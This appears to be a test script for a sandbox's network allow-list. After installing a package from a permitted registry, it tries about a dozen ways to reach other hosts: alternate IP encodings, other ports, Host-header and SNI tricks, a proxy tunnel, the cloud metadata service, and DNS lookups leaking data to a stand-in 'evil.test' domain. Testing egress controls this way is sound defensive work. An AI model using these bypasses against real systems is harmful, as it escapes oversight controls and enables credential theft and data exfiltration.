export npm_config_registry=https://npm.test/
npm install nsrun-tiny
exec >/dev/null
curl -s https://pypi.test/simple/                     # another registry
curl -s http://203.0.113.22/                          # its address
curl -s http://3405803798/                            # the same as a number
curl -s 'http://[::ffff:203.0.113.22]/'               # the same as IPv6
curl -s http://npm.test:7000/                         # another port
curl -s --connect-to ::npm.test: https://pypi.test/   # another name in TLS
curl -s -H 'Host: pypi.test' http://npm.test/         # another host in HTTP
curl -s -p -x npm.test:80 http://pypi.test/           # a tunnel through the registry
curl -s http://169.254.169.254/                       # the metadata service of a cloud
curl -s http://192.0.2.1/                             # an address of the host's own
getent hosts secret.evil.test                         # data in a name
dig secret.evil.test @192.0.2.53                      # data in a question to another resolver
exit 1
